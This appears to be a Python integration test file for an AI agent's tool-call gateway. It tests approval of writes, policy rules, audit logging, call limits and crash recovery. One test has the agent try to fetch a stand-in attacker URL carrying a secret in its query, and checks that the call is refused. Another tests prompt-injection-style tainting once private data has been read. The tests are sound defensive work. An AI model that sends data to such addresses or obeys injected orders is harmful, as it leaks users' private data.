"""The one way to call a tool: decided, recorded, bounded, and taken up after a crash."""

import asyncio
from dataclasses import replace

import pytest

from core.gateway.model import ToolCall
from core.gateway.tools.dispatcher import UNKNOWN_END, Dispatcher
from core.gateway.tools.model import ToolPolicy
from core.gateway.tools.session import ToolLimits
from core.kernel.errors import NotFound, Overtaken, Postponed
from tests.integration.tools.foreign import World, wanted

ALLOW_ALL = ToolPolicy(rules={"send": "allow", "fetch": "allow"})


@pytest.fixture
def world():
    return World()


async def rows(context):
    """(action, outcome) of the audit log, oldest first."""
    async with context.db.transaction() as tx:
        found = await tx.fetch("select action, outcome from audit_event order by seq")
    return [(row["action"], row["outcome"]) for row in found]


async def test_a_read_runs_with_a_row_before_and_a_row_after(context, world):
    session = await world.session(context)

    step = await session.call(wanted("inbox"))

    assert (step.state, step.result) == ("done", "inbox done")
    assert session.ground.read_untrusted
    assert await rows(context) == [("gateway:tool:call", "attempt"), ("gateway:tool:call", "done")]


async def test_a_write_waits_and_nothing_is_done(context, world):
    session = await world.session(context, words="tell ben")

    step = await session.call(wanted("send", to="ben"))

    assert step.state == "waiting"
    assert step.shown == "Use the tool send\nto: ben"
    assert not world.done
    assert not session.steps  # a round that is not over is not told


async def test_a_write_that_is_allowed_runs_until_the_turn_has_read_two_kinds(context, world):
    session = await world.session(context, words="tell ben", policy=ALLOW_ALL)

    first = await session.call(wanted("send", to="ben"))
    await session.call(wanted("inbox", "c2"))
    second = await session.call(wanted("send", "c3", to="ben"))

    assert (first.state, second.state) == ("done", "waiting")
    assert [name for name, _ in world.done] == ["send", "inbox"]


async def test_b7_what_a_turn_had_read_before_it_waited_stays_read(context, world):
    """The document with the order may be gone by the time somebody says yes."""
    asked = await world.session(context, words="tell ben", has_read=True)
    await asked.call(wanted("send", to="ben"))
    async with context.db.transaction() as tx:
        await tx.execute("update turn_step set state = 'approved'")

    later = await world.session(context, words="tell ben", policy=ALLOW_ALL)
    await later.advance()
    more = await later.call(wanted("send", "c2", to="ben"))

    assert [row.state for row in later.rows] == ["done", "waiting"]
    assert "private data were read" in more.detail["because"]


async def test_an_address_that_nobody_named_is_not_opened_whatever_the_policy_says(context, world):
    session = await world.session(context, words="read lumen.test/a", policy=ALLOW_ALL)

    evil = await session.call(wanted("fetch", url="https://evil.test/?q=secret"))
    good = await session.call(wanted("fetch", "c2", url="https://lumen.test/a"))

    assert (evil.state, good.state) == ("failed", "done")
    assert "Nobody has named this address" in evil.result
    assert world.done == [("fetch", {"url": "https://lumen.test/a"})]
    assert (await rows(context))[0] == ("gateway:tool:call", "refused")


async def test_a99_one_repair_try_then_no_more(context, world):
    session = await world.session(context)

    unknown = await session.call(ToolCall("c1", "delete all; now", "{}"))
    assert (unknown.state, unknown.name) == ("failed", "delete_all__now")
    assert not session.is_hopeless
    wrong = await session.call(ToolCall("c2", "inbox", '{"to": NaN'))

    assert "not JSON" in wrong.result
    assert wrong.arguments == "{}"
    assert session.is_hopeless
    assert not world.done


async def test_a94_ten_thousand_calls_are_a_few(context, world):
    session = await world.session(context, limits=ToolLimits(calls=5, calls_a_round=4))
    many = [wanted("inbox", f"c{number}") for number in range(10_000)]

    for _ in range(3):
        await session.begin_round("", many)
        await session.advance()

    assert len(world.done) == 5
    assert session.is_spent


@pytest.mark.parametrize(
    ("trouble", "words"),
    [
        (NotFound("There is no such channel."), "There is no such channel."),
        (RuntimeError("secret"), "not known whether"),
        (TimeoutError(), "not known whether"),
    ],
)
async def test_a_call_that_fails_is_told_in_words(context, world, trouble, words):
    world.trouble = trouble
    session = await world.session(context, words="ben", policy=ALLOW_ALL)

    step = await session.call(wanted("send", to="ben"))

    assert step.state == "failed"
    assert words in step.result
    assert "secret" not in step.result
    assert (await rows(context))[-1] == ("gateway:tool:call", "failed")


@pytest.mark.parametrize(("name", "runs"), [("send", 1), ("inbox", 2)])
async def test_a_crash_in_a_call_repeats_a_read_and_never_a_write(context, world, name, runs):
    world.trouble = asyncio.CancelledError()
    session = await world.session(context, words="ben", policy=ALLOW_ALL)
    with pytest.raises(asyncio.CancelledError):
        await session.call(wanted(name, to="ben"))
    world.trouble = None

    again = await world.session(context, words="ben", policy=ALLOW_ALL)
    await again.advance()

    assert len(world.done) == runs
    [step] = again.rows
    assert step.state == ("failed" if name == "send" else "done")
    assert ("not known whether" in step.result) is (name == "send")


@pytest.mark.parametrize("meanwhile", ["removed", "forbidden", "changed"])
@pytest.mark.parametrize("repeatable", [True, False])
async def test_a_write_that_had_begun_is_unknown_whatever_was_changed_since(
    context, world, meanwhile, repeatable
):
    """It may have been done: nobody is told that there is no such tool, or that it was refused."""
    world.tools = [replace(tool, repeatable=repeatable) for tool in world.tools]
    world.dispatcher = Dispatcher(world.tools)
    session = await world.session(context, words="ben", policy=ALLOW_ALL)
    await session.begin_round("", [wanted("send", to="ben")])
    async with context.db.transaction() as tx:
        await tx.execute("update turn_step set state = 'running'")
        if meanwhile == "changed":
            await tx.execute("""update turn_step set arguments = '{"to":"eve"}'""")

    if meanwhile == "removed":
        world.dispatcher = Dispatcher([tool for tool in world.tools if tool.name != "send"])
    policy = ToolPolicy(rules={"send": "never"}) if meanwhile == "forbidden" else ALLOW_ALL
    again = await world.session(context, words="ben", policy=policy)
    await again.advance()

    [step] = again.rows
    assert (step.state, step.result, step.detail.get("unknown")) == ("failed", UNKNOWN_END, True)
    assert not world.done
    assert (await rows(context))[-1] == ("gateway:tool:call", "failed")


async def test_a_read_that_had_begun_and_is_forbidden_since_is_refused(context, world):
    session = await world.session(context)
    await session.begin_round("", [wanted("inbox")])
    async with context.db.transaction() as tx:
        await tx.execute("update turn_step set state = 'running'")

    again = await world.session(context, policy=ToolPolicy(rules={"inbox": "never"}))
    await again.advance()

    assert again.rows[0].result == "This agent may not use inbox."
    assert not world.done


async def test_a_slack_that_is_away_leaves_the_call_as_it_was(context, world):
    world.trouble = Postponed("away")
    session = await world.session(context)
    with pytest.raises(Postponed):
        await session.call(wanted("inbox"))
    world.trouble = None

    again = await world.session(context)
    await again.advance()

    assert [row.state for row in again.rows] == ["done"]


async def test_arguments_that_were_changed_in_the_table_are_not_run(context, world):
    session = await world.session(context, words="ben eve", policy=ALLOW_ALL)
    await session.begin_round("", [wanted("send", to="ben")])
    async with context.db.transaction() as tx:
        await tx.execute("""update turn_step set arguments = '{"to":"eve"}'""")

    again = await world.session(context, words="ben eve", policy=ALLOW_ALL)
    await again.advance()

    assert "changed" in again.rows[0].result
    assert not world.done


@pytest.mark.parametrize("state", ["reserved", "approved", "running"])
async def test_a_call_whose_turn_is_another_workers_by_now_is_not_made(context, world, state):
    """Also one that was begun by the worker that is overtaken, or by who has overtaken it."""
    first = await world.session(context, policy=ALLOW_ALL)
    await first.begin_round("", (wanted("fetch"),))
    async with context.db.transaction() as tx:
        await tx.execute("update turn_step set state = $1", state)

    async def hold(tx):
        raise Overtaken

    session = await world.session(context, policy=ALLOW_ALL, hold=hold)
    with pytest.raises(Overtaken):
        await session.advance()
    with pytest.raises(Overtaken):
        await session.begin_round("", (wanted("inbox"),))

    assert world.done == []
    async with context.db.transaction() as tx:
        assert await tx.fetchval("select array_agg(state) from turn_step") == [state]


async def test_what_an_overtaken_worker_did_is_not_written_over_what_the_other_one_did(
    context, world
):
    """It is stopped in the middle of the call; the other one makes it, and ends it."""
    other = await world.session(context, policy=ALLOW_ALL)
    await other.begin_round("", (wanted("fetch"),))
    overtaken = []

    async def hold(tx):
        if overtaken:
            raise Overtaken

    waking = await world.session(context, policy=ALLOW_ALL, hold=hold)
    world.during = lambda: overtaken.append(True)
    with pytest.raises(Overtaken):
        await waking.advance()

    async with context.db.transaction() as tx:
        assert await tx.fetchval("select state from turn_step") == "running"
    assert await rows(context) == [
        ("gateway:tool:call", "attempt"),
        ("gateway:tool:call", "failed"),
    ]


async def test_a_policy_that_is_changed_in_a_turn_counts_from_the_next_call_on(context, world):
    rules = {"send": "allow"}

    async def policy_now():
        return ToolPolicy(rules=dict(rules))

    session = await world.session(context, words="tell ben", policy=policy_now)
    first = await session.call(wanted("send", to="ben"))
    rules["send"] = "never"
    second = await session.call(wanted("send", "c2", to="ben"))

    assert (first.state, second.state) == ("done", "failed")
    assert len(world.done) == 1
